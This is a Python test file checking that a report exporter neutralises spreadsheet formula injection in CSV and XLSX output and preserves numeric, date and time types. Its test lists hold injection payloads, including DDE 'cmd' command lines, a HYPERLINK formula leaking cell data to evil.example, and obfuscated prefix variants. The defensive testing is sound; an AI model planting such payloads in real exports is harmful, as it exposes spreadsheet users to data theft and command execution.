"""No cell of a file is ever run as a formula; whatever is a number or a time stays one."""

import csv
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from io import BytesIO, StringIO
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from reports.exports import csv_file, xlsx_file
from reports.exports.cells import Value, written
from reports.exports.sheets import Sheet

LIMA = ZoneInfo("America/Lima")
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
FULL_WIDTH = "\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
RUN_BY_SPREADSHEETS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    HYPERLINK,
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    *(f"{sign}1+1" for sign in FULL_WIDTH),
    "\tplain",
    "-",
]
# What parts cells where commas are decimal: the guard stands behind it as well.
INSIDE = [
    "x;=1+1;",
    "x; =1+1",
    "x;\t@SUM(1)",
    'x;"=1+1"',
    "x\n=1+1",
    "x;\n=1+1",
    "x\r\n+1",
    "a;b;-1+1",
    'say "hi";=1+1',
]


def sheet_of(*cells: str) -> Sheet:
    """Return a sheet with a cell in each row."""
    return Sheet("Vectors", ["Text"], [[cell] for cell in cells], LIMA)


def in_csv(*cells: str) -> list[str]:
    """Return what a reader of the file finds in each row."""
    text = b"".join(csv_file.pieces(sheet_of(*cells))).decode("utf-8-sig")
    return [row[0] for row in csv.reader(StringIO(text))][1:]


def in_xlsx(sheet: Sheet) -> list[list[object]]:
    """Return the rows of the workbook's first sheet, headings left out; none is a formula."""
    book = load_workbook(BytesIO(b"".join(xlsx_file.pieces([sheet]))))
    rows = list(book.worksheets[0].iter_rows(min_row=2))
    assert not any(cell.data_type == "f" for row in rows for cell in row)
    return [[cell.value for cell in row] for row in rows]


@pytest.mark.parametrize("text", RUN_BY_SPREADSHEETS)
def test_what_a_spreadsheet_would_run_is_guarded(text: str) -> None:
    assert in_csv(text)[0].startswith("'")
    assert str(in_xlsx(sheet_of(text))[0][0]).startswith("'")


@pytest.mark.parametrize("text", [*RUN_BY_SPREADSHEETS, *INSIDE])
def test_nothing_runs_wherever_a_program_parts_cells(text: str) -> None:
    line = b"".join(csv_file.pieces(sheet_of(text))).decode("utf-8-sig").splitlines()[1:]
    assert len(line) == 1
    for separator in (",", ";", "\t"):
        for cell in line[0].split(separator):
            assert cell.strip(' "\u200b\ufeff\u202e\u00a0\u3000')[:1] not in {*"=+-@", *FULL_WIDTH}


@pytest.mark.parametrize(
    "text", ["El horno no calienta", "50 % = half", "a@b.example", "ñandú 🙂", "'quoted'", "1-2", ""]
)
def test_innocent_text_stays_as_it_is(text: str) -> None:
    assert in_csv("row", text) == ["row", text]
    assert in_xlsx(sheet_of("row", text))[1][0] == (text or None)


def test_a_cell_holds_what_excel_can_hold() -> None:
    assert len(in_csv("x" * 40_000)[0]) < 32_767


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (-5, -5),
        (7, 7),
        (66.66666, 66.6667),
        (None, ""),
        (date(2026, 11, 21), "2026-11-21"),
        (datetime(2026, 11, 21, 4, 59, 59, 123, tzinfo=UTC), "2026-11-20 23:59:59"),
        (timedelta(hours=26, minutes=5, seconds=1), "26:05:01"),
    ],
)
def test_numbers_days_and_times_stay_what_they_are(value: object, said: object) -> None:
    assert written(value, LIMA) == said  # type: ignore[arg-type]


def test_a_workbook_keeps_types() -> None:
    row: list[Value] = [
        -5,
        66.5,
        date(2026, 11, 21),
        datetime(2026, 11, 21, 5, 0, tzinfo=UTC),
        timedelta(hours=26),
        None,
    ]
    sheet = Sheet("Types", [str(number) for number in range(6)], [row], LIMA)
    assert in_xlsx(sheet) == [
        [-5, 66.5, datetime(2026, 11, 21), datetime(2026, 11, 21, 0, 0), timedelta(hours=26), None]  # noqa: DTZ001
    ]


def test_titles_of_sheets_fit_excel() -> None:
    sheets = [Sheet("A title: far longer than [31] letters/signs", ["x"], [], LIMA) for _ in range(3)]
    titles = load_workbook(BytesIO(b"".join(xlsx_file.pieces(sheets)))).sheetnames
    assert len(set(titles)) == 3
    assert max(map(len, titles)) <= 31


def test_rows_are_written_while_they_are_read() -> None:
    read = 0

    def rows() -> Iterator[list[str]]:
        nonlocal read
        while True:
            read += 1
            yield ["x" * 100]

    pieces = csv_file.pieces(Sheet("Endless", ["Text"], rows(), LIMA))
    for _ in range(4):
        next(pieces)
    assert read < 2000
